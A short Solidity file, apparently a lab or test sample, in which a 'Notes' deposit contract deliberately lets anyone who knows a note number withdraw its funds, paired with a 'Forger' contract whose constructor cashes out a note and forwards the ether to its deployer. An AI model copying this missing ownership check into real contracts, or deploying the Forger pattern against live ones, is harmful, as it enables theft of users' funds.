// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Notes of deposits, which whoever knows the number of one may cash in: it forgets to ask whose it is.
contract Notes {
    mapping(uint256 note => uint256) public worth;

    function issue(uint256 note) external payable {
        worth[note] += msg.value;
    }

    function redeem(uint256 note, uint256 amount) external {
        worth[note] -= amount;
        payable(msg.sender).transfer(amount);
    }

    function redeemTo(uint256 note, uint256 amount, address payable to) external {
        worth[note] -= amount;
        to.transfer(amount);
    }
}

/// Cashes in where it is made, and hands on what it got.
contract Forger {
    constructor(Notes notes, uint256 note, uint256 amount) {
        notes.redeem(note, amount);
        payable(msg.sender).transfer(amount);
    }

    receive() external payable {}
}
